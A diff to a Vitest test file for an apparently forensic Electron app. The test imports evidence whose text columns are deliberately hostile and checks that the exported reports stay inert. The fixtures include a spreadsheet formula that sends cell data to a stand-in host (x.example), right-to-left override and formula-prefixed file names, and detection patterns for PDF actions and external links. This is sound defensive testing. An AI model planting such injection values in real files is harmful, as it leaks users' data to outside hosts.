@@ -5,14 +5,17 @@
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { fromBuffer } from 'yauzl';
 import { createEngine, type Engine } from '../../electron/engine';
 import { verify } from '../../electron/engine/case/verify';
+import { xlsx } from '../../electron/engine/ingest/testing/workbook';
 import type { Client } from '../../shared/contract';
 import { connect } from '../../shared/rpc/client';
 import { memoryPair } from '../../shared/rpc/memory-port';
 import { CHECKED, faultsOf } from '../schemas/check';
+import { members } from './members';
 
 const TEXTS = [
   '=HYPERLINK("http://x.example/?"&A1,"open")',
@@ -53,8 +56,31 @@ let engine: Engine;
 let client: Client;
 const outputs = new Map<string, Buffer>();
 
-/** Two JSON or NDJSON samples of every source, poisoned. */
-function writeEvidence(folder: string): void {
+/** Text as bytes in which a half of a pair is the half that it is: Node writes a mark of replacement. */
+const bytesOf = (text: string): Buffer =>
+  Buffer.concat(text.split('\ud800').flatMap((part, i) => [Buffer.from(i === 0 ? [] : [0xed, 0xa0, 0x80]), Buffer.from(part)])); // biome-ignore format: one line
+
+/** A table of records, poisoned in every free column, as CSV and as a workbook. */
+async function writeTable(folder: string, name: string, text: string): Promise<void> {
+  const [head, ...rows] = parse(text, { relax_column_count: true, skip_empty_lines: true, bom: true }) as string[][];
+  const poisoned = [head!, ...rows.map((row) => row.map((cell, i) => poison(cell, head![i] ?? '') as string))];
+  fs.writeFileSync(path.join(folder, `${name}.csv`), bytesOf(stringify(poisoned)));
+  fs.writeFileSync(path.join(folder, `${name}.xlsx`), await xlsx({ [TEXTS[0]!.slice(0, 31)]: poisoned }));
+}
+
+/** Context of the organisation whose free columns are all hostile. */
+function writeContext(folder: string): void {
+  const table = (name: string, head: string, row: (text: string, i: number) => string[]): void =>
+    fs.writeFileSync(path.join(folder, name), bytesOf(stringify([head.split(','), ...TEXTS.map(row)])));
+  table('who.csv', 'identity,kind,display_name,owner,owner_email,department,title,manager,privileged,break_glass,home_country,aliases', (t, i) => [`user${i}@example.com`, 'human', t, t, t, t, t, t, 'no', 'no', 'RO', t.slice(0, 40)]); // biome-ignore format: one line
+  table('things.csv', 'device,identity,name,os,managed,compliant,first_seen,last_seen', (t, i) => [`d${i}`, `user${i}@example.com`, t, t, 'yes', 'no', '', '']); // biome-ignore format: one line
+  table('nets.csv', 'cidr,label,kind,note', (t, i) => [`203.0.113.${i}/32`, t, 'hosting', t]);
+  table('trips.csv', 'identity,from,until,country,city,note', (t, i) => [`user${i}@example.com`, '2026-01-01T00:00:00Z', '2026-02-01T00:00:00Z', 'RO', t, t]); // biome-ignore format: one line
+}
+
+/** Samples of every source, two of JSON or NDJSON and one table, poisoned. */
+async function writeEvidence(folder: string): Promise<void> {
+  writeContext(folder);
   const sources = path.join(__dirname, '../../electron/engine/ingest/sources');
   for (const source of fs.readdirSync(sources)) {
     const samples = path.join(sources, source, 'samples');
@@ -71,6 +97,8 @@ function writeEvidence(folder: string): void {
         // a sample that is broken on purpose
       }
     }
+    const [sample] = fs.readdirSync(samples).filter((name) => name.endsWith('.csv'));
+    if (sample) await writeTable(folder, `\u202e${source}@SUM(1)`, fs.readFileSync(path.join(samples, sample), 'utf8'));
   }
 }
 
@@ -78,18 +106,21 @@ beforeAll(async () => {
   root = fs.mkdtempSync(path.join(os.tmpdir(), 'sidedoor-hostile-'));
   const evidence = path.join(root, '<b>evidence');
   fs.mkdirSync(evidence);
-  writeEvidence(evidence);
+  await writeEvidence(evidence);
   engine = createEngine({ checkOutputs: true });
   const [page, host] = memoryPair();
   engine.serve(host);
   client = connect(page).client;
   const grant = (token: string, file: string, use: 'read' | 'write'): void => engine.control({ control: 'grant', token, path: file, use }); // biome-ignore format: one line
-  grant('case', path.join(root, 'hostile.sidedoor'), 'write');
+  grant('case', path.join(root, '=1+1 <b>\u202ehostile.sidedoor'), 'write');
   grant('evidence', evidence, 'read');
   await client['cases.open']({ ref: 'case' });
   await client['cases.actor']({ name: TEXTS[7]!, confirmed: true });
   const summary = await client['imports.start']({ files: ['evidence'] });
   expect(summary.events).toBeGreaterThan(100);
+  for (const end of ['.csv', '.xlsx', '.ndjson', '.json'])
+    expect([end, summary.files.filter(({ file, records }) => file.includes(end) && records > 0).length > 8]).toEqual([end, true]); // biome-ignore format: one line
+  expect(summary.files.filter(({ context }) => context > 10)).toHaveLength(4);
   for (const file of summary.files) expect(file.records).toBe(file.events + file.context + file.duplicates + file.skipped + file.rejected); // biome-ignore format: one line
   const episodes = await client['episodes.list']({ offset: 0, limit: 100 });
   expect(episodes.length).toBeGreaterThan(10);
@@ -119,27 +150,6 @@ const foundIn = (text: string, what: RegExp): string[] =>
   [...text.matchAll(new RegExp(what, what.flags.includes('g') ? what.flags : `${what.flags}g`))]
     .slice(0, 5)
     .map(({ 0: one, index }) => `${JSON.stringify(text.slice(Math.max(0, index - 80), index))} then ${one}`);
-
-const parts = (bytes: Buffer): Promise<Map<string, string>> =>
-  new Promise((resolve, reject) => {
-    fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
-      if (error || !zip) return reject(error ?? new Error('no archive'));
-      const found = new Map<string, string>();
-      zip.on('end', () => resolve(found));
-      zip.on('entry', (entry) =>
-        zip.openReadStream(entry, (broken, stream) => {
-          if (broken || !stream) return reject(broken ?? new Error('no stream'));
-          const held: Buffer[] = [];
-          stream.on('data', (part: Buffer) => void held.push(part));
-          stream.on('end', () => {
-            if (/\.(xml|rels)$/.test(entry.fileName)) found.set(entry.fileName, Buffer.concat(held).toString('utf8'));
-            zip.readEntry();
-          });
-        }),
-      );
-      zip.readEntry();
-    });
-  });
 
 describe('a hostile case, imported', () => {
   it.each(CHECKED)('%s is valid by its schema', async (format) => {
@@ -185,7 +195,8 @@ describe('a hostile case, imported', () => {
   });
 
   it.each(['report-docx', 'report-xlsx'])('%s: text is text, nothing is loaded, no formula', async (token) => {
-    for (const [name, xml] of await parts(outputs.get(token)!)) {
+    for (const [name, xml] of members(outputs.get(token)!)) {
+      if (!/\.(xml|rels)$/.test(name)) continue;
       expect([name, CONTROL.test(xml), BIDI.test(xml)]).toEqual([name, false, false]);
       expect(xml).not.toMatch(/TargetMode\s*=\s*["']External|<f[ >]|t="str"|<!DOCTYPE/);
       expect(xml).not.toMatch(/<(script|img|svg)\b/);
@@ -195,6 +206,18 @@ describe('a hostile case, imported', () => {
 
   it('pdf: no action, no address, no script', () => {
     expect(foundIn(outputs.get('report-pdf')!.toString('latin1'), /\/(JavaScript|JS|Launch|URI|EmbeddedFile|SubmitForm)\b/)).toEqual([]); // biome-ignore format: one line
+  });
+
+  it('kml: nothing that a viewer draws as HTML, no hidden characters', () => {
+    const text = said('export-kml');
+    expect([...foundIn(text, BIDI), ...foundIn(text, CONTROL), ...foundIn(text, /<!\[CDATA\[|<!DOCTYPE/)]).toEqual([]);
+    expect(foundIn(text, /&(amp;)*lt;/i)).toEqual([]);
+  });
+
+  it('names of members in the bundle lie inside it and can be written on every system', () => {
+    const names = [...members(outputs.get('export-bundle')!).keys()];
+    expect(names.length).toBeGreaterThan(30);
+    expect(names.filter((name) => name.startsWith('/') || name.split('/').includes('..') || /[\u0000-\u001f\\:*?"<>|]/.test(name) || BIDI.test(name))).toEqual([]); // biome-ignore format: one line
   });
 
   it('bundle: intact', async () => {
